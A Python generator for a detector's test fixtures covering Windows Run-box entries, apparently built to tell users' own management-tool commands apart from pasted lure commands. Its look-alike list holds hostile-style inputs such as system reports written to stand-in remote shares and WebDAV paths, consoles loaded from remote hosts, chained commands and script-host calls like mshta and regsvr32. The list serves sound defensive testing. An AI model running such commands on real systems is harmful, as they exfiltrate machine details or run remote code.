"""Writes tests/data/cases/b7benign.jsonl: entries a person types into the Run box, installers
copied from their own project's page, an organisation's own deployment commands and console
snippets that were warned about although nothing in them is a lure, each beside the look-alikes
that must stay flagged or blocked.

    python tests/data/cases/make_b7benign.py

Deterministic. Names are made up; lure hosts are reserved names (*.test, *.example, documentation
addresses). No text is copied from a blind set, a lure collection or another detector's
fixtures. Each line is {id, text, expect, technique, platform, source, target}.

Principles:

- `run-box-tool`: Windows' own management tools typed (no source) with the switches of
  resources/runbox.yaml, which only open a console (for this computer or another by name),
  select a file in Explorer or write a report to a file here, are a user's own entry.
  Look-alikes: the same written by a page or a mail (a command in the Run box: blocked), a
  report written to a share, a WebDAV path or an address, a console from a share, a path or an
  address (GrimResource / MSC EvilTwin), a console that is not Windows' own, a switch that
  changes settings or deletes files, a switch twice, an extra word, a chain, a script host, a
  variable that can name another computer's share.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("b7benign.jsonl")
RUN = "run_dialog"
BAR = "explorer_bar"
HELP_PAGE = "https://support.harrowfield.example/kb/disk-tools"
STRANGER = "https://www.quillmere-bakery.example/verify/step2"
MAIL = "outlook"

SNAPINS = ["compmgmt", "fsmgmt", "services", "eventvwr", "lusrmgr", "devmgmt", "taskschd"]
COMPUTERS = ["fs02", r"\\ws-0412", "srv-db01.corp.example", r"\\print01.ad.example", "10.20.1.7"]
LOCAL_FILES = [
    r"%USERPROFILE%\Desktop\report.txt",
    r"C:\Temp\dx.txt",
    r'"%USERPROFILE%\Documents\Support files\dxdiag.txt"',
    r"%TEMP%\sysinfo.nfo",
    r"D:\logs\diag.xml",
    r"%PUBLIC%\Documents\diag.txt",
]

TYPED_TOOLS = [
    *(f"{name}.msc /computer={computer}" for name in SNAPINS for computer in COMPUTERS[:2]),
    *(
        f"{name}.msc /computer={computer}"
        for name, computer in zip(SNAPINS, COMPUTERS[2:] * 3, strict=False)
    ),
    r"compmgmt.msc /computer:\\hr-laptop-11",
    "mmc compmgmt.msc /computer=fs03",
    r"MMC.exe services.msc /computer=\\app07",
    "eventvwr.msc /s",
    "gpedit.msc /a",
    "certmgr.msc /64",
    "devmgmt.msc /32",
    "Services.msc /S",
    "diskmgmt.msc /computer=nas01 /s",
    r"dxdiag /t %USERPROFILE%\Desktop\dxdiag.txt",
    r"dxdiag.exe /x C:\Temp\dx.xml",
    r'dxdiag /t "%USERPROFILE%\Documents\Support files\dxdiag.txt"',
    r"dxdiag /whql:off /t %TEMP%\dx.txt",
    r"dxdiag /64bit /dontskip /t D:\logs\dx.txt",
    r"DXDIAG /T C:\Users\sam\Desktop\dx.txt",
    r"msinfo32 /report %USERPROFILE%\Desktop\sysinfo.txt",
    r"msinfo32 /nfo C:\Temp\machine.nfo",
    "msinfo32 /computer ws-0413",
    r"msinfo32.exe /computer \\ws-0414",
    "cleanmgr /sageset:1",
    "cleanmgr /sageset:65",
    "cleanmgr /d C",
    "cleanmgr.exe /d D: /sageset:11",
    r"explorer.exe /select,%USERPROFILE%\Downloads",
    r"explorer /select,C:\Windows\System32\drivers\etc\hosts",
    r'explorer /select,"C:\Users\sam\My Projects\notes.txt"',
    r"explorer.exe /select,%LOCALAPPDATA%\Temp\setup.log",
    "explorer /select,D:\\Photos\\2024\\",
]

# (text, expect): typed into the Run box (no source), these are still commands
TYPED_LOOKALIKES = [
    # a report written to another computer: this computer's details leave it
    (r"dxdiag /t \\files.quillmere.example\drop\dx.txt", "flagged"),
    (r"dxdiag /x \\203.0.113.9@SSL\DavWWWRoot\dx.xml", "flagged"),
    (r"msinfo32 /report \\198.51.100.4\c$\s.txt", "flagged"),
    (r"msinfo32 /nfo https://collect.quillmere.example/up", "flagged"),
    (r"dxdiag /t %LOGONSERVER%\netlogon\dx.txt", "flagged"),
    (r"dxdiag /t %HOMESHARE%\dx.txt", "flagged"),
    (r"dxdiag /t //files.quillmere.example/drop/dx.txt", "flagged"),
    # a console loaded from elsewhere or not Windows' own (its scripts run: T1218.014)
    (r"mmc \\files.quillmere.example\share\compmgmt.msc", "flagged"),
    (r"mmc \\203.0.113.20@SSL\DavWWWRoot\console.msc /computer=fs02", "flagged"),
    (r"\\files.quillmere.example\tools\services.msc /computer=fs02", "flagged"),
    (r"mmc C:\Users\Public\Downloads\invoice.msc /a", "flagged"),
    (r"mmc %TEMP%\compmgmt.msc /s", "flagged"),
    ("mmc https://cdn.quillmere.example/mgmt.msc", "flagged"),
    ("invoice.msc /computer=fs02", "flagged"),
    ("compmgmt.msc /computer=fs02 /computer=fs03", "flagged"),
    (r"compmgmt.msc /computer=\\fs02\c$\x", "flagged"),
    (r"compmgmt.msc /computer=\\files.test@SSL\DavWWWRoot", "flagged"),
    ("compmgmt.msc /computer=fs02 calc", "flagged"),
    ("compmgmt.msc /computer=fs02 & calc", "flagged"),
    ("eventvwr.msc /s /s", "flagged"),
    # switches that change settings or delete files, or are not the tool's own
    ("cleanmgr /sagerun:1", "flagged"),
    ("cleanmgr /verylowdisk", "flagged"),
    ("cleanmgr /sageset:1234567", "flagged"),
    (r'control intl.cpl,,/f:"%TEMP%\region.xml"', "flagged"),
    (r"dxdiag /t C:\Temp\a.txt /t C:\Temp\b.txt", "flagged"),
    (r"dxdiag /t", "flagged"),
    (r"dxdiag /t C:\Temp\a.txt C:\Temp\b.txt", "flagged"),
    (r"msinfo32 /report C:\Temp\a.txt /categories +all", "flagged"),
    # Explorer opening (running) a file, or a chain of its switches
    (r"explorer C:\Users\Public\Downloads\invoice.hta", "flagged"),
    (r"explorer /select,C:\Temp\a.txt,/root,\\files.quillmere.example\drop", "flagged"),
    (r"explorer /select,\\files.quillmere.example\drop\a.lnk", "flagged"),
    (r"explorer /e,C:\Temp\run.hta", "flagged"),
    (r'explorer /select,"C:\Temp\a.txt" C:\Temp\b.hta', "flagged"),
    # script hosts never take a tool's switches
    (r"mshta /s", "flagged"),
    (r"rundll32 /t C:\Temp\a.txt", "flagged"),
    (r"regsvr32 /s C:\Users\Public\x.dll", "flagged"),
    (r"msiexec /x C:\Temp\a.msi", "flagged"),
    (r'powershell /t "C:\Temp\a.txt"', "flagged"),
]


def run_box_tool(book: Book) -> None:
    for i, text in enumerate(TYPED_TOOLS):
        book.add("run-box-tool", text, "not_flagged", "windows", BAR if i % 5 == 4 else RUN)
    lure = "run-box-tool-lure"
    for text, expect in TYPED_LOOKALIKES:
        book.add(lure, text, expect, "windows", RUN)
    # the same entries written by a page or a mail: a command in the Run box
    for i, text in enumerate(TYPED_TOOLS[::4]):
        page = (HELP_PAGE, STRANGER)[i % 2]
        book.add(lure, text, "malicious", "windows", RUN if i % 3 else BAR, page)
    for text in TYPED_TOOLS[1::9]:
        book.add(lure, text, "flagged", "windows", RUN, MAIL)


def build() -> list[dict[str, str]]:
    book = Book("b7b")
    run_box_tool(book)
    return book.cases


CASES = build()


def main() -> None:
    write(OUT, CASES)


if __name__ == "__main__":
    main()
